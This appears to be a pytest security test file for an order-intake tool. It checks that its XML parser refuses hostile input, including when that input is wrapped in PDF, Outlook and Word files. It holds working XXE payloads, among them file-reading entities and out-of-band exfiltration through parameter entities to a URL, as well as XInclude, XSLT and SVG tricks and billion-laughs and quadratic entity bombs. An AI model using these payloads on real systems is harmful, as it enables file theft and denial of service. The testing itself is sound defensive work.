"""Hostile XML reads no file and opens no connection; it is refused or its tricks stay without effect."""

from __future__ import annotations

import ctypes
import io
import json
import socket
import threading
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from benchmarks.corpus.wrapping import archives
from benchmarks.corpus.wrapping.outlook_files import Attached, Written, msg
from orderbot.errors import DocumentError
from orderbot.intake.transcribe import Transcriber
from orderbot.model.json_form import record_to_json
from orderbot.reading.xml import Xml, parse_xml

UBL = "urn:oasis:names:specification:ubl:schema:xsd:"
NOW = datetime(2026, 3, 2, tzinfo=UTC)
SECRET = "canary-4711-must-not-be-seen"


class Listener:
    """A port of the loopback that counts who connects."""

    def __init__(self) -> None:
        self.connections = 0
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            self.connections += 1
            connection.sendall(b"HTTP/1.0 200 OK\r\n\r\n<!ENTITY all 'x'>")
            connection.close()

    def stop(self) -> int:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join(5)
        return self.connections


@pytest.fixture
def listener() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    assert listener.stop() == 0


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    path = tmp_path / "canary.txt"
    path.write_text(SECRET)
    return path


PAYLOADS = {
    "external general entity, file": '<!DOCTYPE Order [<!ENTITY x SYSTEM "{file}">]><Order><ID>&x;</ID></Order>',
    "external general entity, http": '<!DOCTYPE Order [<!ENTITY x SYSTEM "{url}/x">]><Order><ID>&x;</ID></Order>',
    "public identifier": '<!DOCTYPE Order [<!ENTITY x PUBLIC "-//x//y" "{url}/x">]><Order><ID>&x;</ID></Order>',
    "parameter entity": '<!DOCTYPE Order [<!ENTITY % p SYSTEM "{url}/p.dtd"> %p;]><Order><ID>&all;</ID></Order>',
    "exfiltration by parameter entities": (
        '<!DOCTYPE Order [<!ENTITY % f SYSTEM "{file}"><!ENTITY % e "<!ENTITY all SYSTEM \'{url}/?%f;\'>"> %e;]>'
        "<Order><ID>&all;</ID></Order>"
    ),
    "external subset, http": '<!DOCTYPE Order SYSTEM "{url}/order.dtd"><Order><ID>&all;</ID></Order>',
    "external subset, file": '<!DOCTYPE Order SYSTEM "{file}"><Order><ID>&all;</ID></Order>',
    "xinclude": (
        '<Order xmlns:xi="http://www.w3.org/2001/XInclude"><ID><xi:include parse="text" href="{file}"/>'
        '<xi:include href="{url}/x"><xi:fallback/></xi:include></ID></Order>'
    ),
    "schema location": (
        '<Order xmlns="urn:o" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        'xsi:schemaLocation="urn:o {url}/o.xsd" xsi:noNamespaceSchemaLocation="{url}/n.xsd"><ID>7</ID></Order>'
    ),
    "stylesheet instruction": '<?xml-stylesheet type="text/xsl" href="{url}/x.xsl"?><Order><ID>7</ID></Order>',
    "stylesheet functions": (
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="{url}/x"/>'
        '<xsl:template match="/"><ID><xsl:copy-of select="document(\'{file}\')"/></ID></xsl:template></xsl:stylesheet>'
    ),
    "picture": (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        '<image xlink:href="{url}/x.png"/><use xlink:href="{file}"/></svg>'
    ),
    "entity in an attribute": '<!DOCTYPE Order [<!ENTITY x SYSTEM "{file}">]><Order ID="&x;"/>',
    "entity behind a comment": '<!-- [ --><!DOCTYPE Order [<!-- ]> --><!ENTITY x SYSTEM "{file}">]><Order>&x;</Order>',
    "document type behind text": 'x<!DOCTYPE Order [<!ENTITY x SYSTEM "{file}">]><Order>&x;</Order>',
    "document type inside": '<a><!DOCTYPE Order [<!ENTITY x SYSTEM "{file}">]><Order>&x;</Order></a>',
    "base": '<Order xml:base="{url}/"><ID xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="x"/></ID></Order>',
}
ENCODINGS = ("utf-8", "utf-16", "utf-16-be")


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_no_file_is_read_and_no_connection_made(payload: str, encoding: str, canary: Path, listener: Listener) -> None:
    text = payload.replace("{file}", canary.as_uri()).replace("{url}", listener.url)

    xml = _parsed(text.encode(encoding))

    assert xml is None or SECRET not in (xml.root.text or "")


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_the_record_of_an_order_tells_nothing_of_other_files(payload: str, canary: Path, listener: Listener) -> None:
    """The payload as the order of a family that is read, through all that a file goes through."""
    text = payload.replace("{file}", canary.as_uri()).replace("{url}", listener.url)
    text = text.replace("<Order", f'<Order xmlns:u="{UBL}Order-2" xmlns:cbc="{UBL}CommonBasicComponents-2"')

    transcript = Transcriber(sandbox=None).transcribe(text.encode(), "order.xml", NOW, pictures=False)

    assert transcript.records
    assert all(SECRET not in json.dumps(record_to_json("order.xml", record)) for record in transcript.records)


@pytest.mark.parametrize("payload", [*PAYLOADS.values()], ids=PAYLOADS)
@pytest.mark.parametrize("wrap", ["pdf", "msg", "docx"])
def test_payloads_inside_other_files_have_no_effect_either(
    payload: str, wrap: str, canary: Path, listener: Listener
) -> None:
    """As the Order-X attachment of a PDF, attached to an Outlook message, as the object in a Word document."""
    text = payload.replace("{file}", canary.as_uri()).replace("{url}", listener.url)
    inside = text.replace("<Order", '<Order xmlns:rsm="urn:un:unece:uncefact:data:SCRDMCCBDACIOMessageStructure:100"')
    content = {"pdf": carrying(inside.encode()), "msg": in_outlook(text.encode()), "docx": in_word(text.encode())}[wrap]

    records = Transcriber(sandbox=None).transcribe(content, None, NOW, pictures=False).records

    assert records and all(SECRET not in json.dumps(record_to_json(wrap, record)) for record in records)


def carrying(content: bytes) -> bytes:
    """A PDF of one empty page that carries a file of the name that Order-X asks for."""
    import pypdfium2
    import pypdfium2.raw as pdfium

    document = pypdfium2.PdfDocument.new()
    document.new_page(200, 200).close()
    name = "order-x.xml".encode("utf-16-le") + b"\0\0"
    held = pdfium.FPDFDoc_AddAttachment(
        document.raw, ctypes.cast(ctypes.create_string_buffer(name), pdfium.FPDF_WIDESTRING)
    )
    assert pdfium.FPDFAttachment_SetFile(held, document.raw, content, len(content))
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def in_outlook(content: bytes) -> bytes:
    return msg(Written(plain="Please find our order attached.", attachments=[Attached("order.xml", content)]))


def in_word(content: bytes) -> bytes:
    parts = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document xmlns:w='urn:w'/>"}
    return archives.zipped({**parts, "word/embeddings/order.xml": content})


NESTED = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
BOMBS = {
    "billion laughs": f'<!DOCTYPE Order [<!ENTITY e0 "ha">{NESTED}]><Order><ID>&e11;</ID></Order>',
    "billion laughs in an attribute": f'<!DOCTYPE Order [<!ENTITY e0 "ha">{NESTED}]><Order ID="&e11;"/>',
    "quadratic blow-up": f'<!DOCTYPE Order [<!ENTITY x "{"x" * 50_000}">]><Order>{"&x;" * 50_000}</Order>',
    "itself": '<!DOCTYPE Order [<!ENTITY x "&y;"><!ENTITY y "&x;">]><Order>&x;</Order>',
    "attribute defaults": f'<!DOCTYPE Order [<!ATTLIST L x CDATA "{"x" * 50_000}">]><Order>{"<L/>" * 50_000}</Order>',
}


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS)
@pytest.mark.timeout(60)
def test_bombs_inside_other_files_are_told(bomb: str) -> None:
    for content in (in_outlook(bomb.encode()), in_word(bomb.encode())):
        records = Transcriber(sandbox=None).transcribe(content, None, NOW, pictures=False).records
        assert any(record.error is not None and record.error.code == "malformed" for record in records)


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS)
def test_declarations_are_refused(bomb: str) -> None:
    with pytest.raises(DocumentError) as caught:
        parse_xml(bomb.encode())

    assert caught.value.code == "malformed"


@pytest.mark.parametrize(
    "content",
    [b"<![CDATA[" * 200_000, b"<a>" + b"<![CDATA[&" * 200_000, b"<!--" * 200_000, b"<a " + b"x" * 500_000, b"<a>" + b"&" * 500_000,
     b"<?" * 200_000, b"<!DOCTYPE " * 100_000, b"<!DOCTYPE a " + b"SYSTEM " * 100_000, b"<a" + b" x:y='1'" * 100_000, b"<a b='" * 50_000],
    ids=range(10),
)  # fmt: skip
@pytest.mark.timeout(20)
def test_no_text_takes_long(content: bytes) -> None:
    _parsed(content)


def _parsed(content: bytes) -> Xml | None:
    try:
        return parse_xml(content)
    except DocumentError as refused:
        assert refused.code == "malformed"
        return None
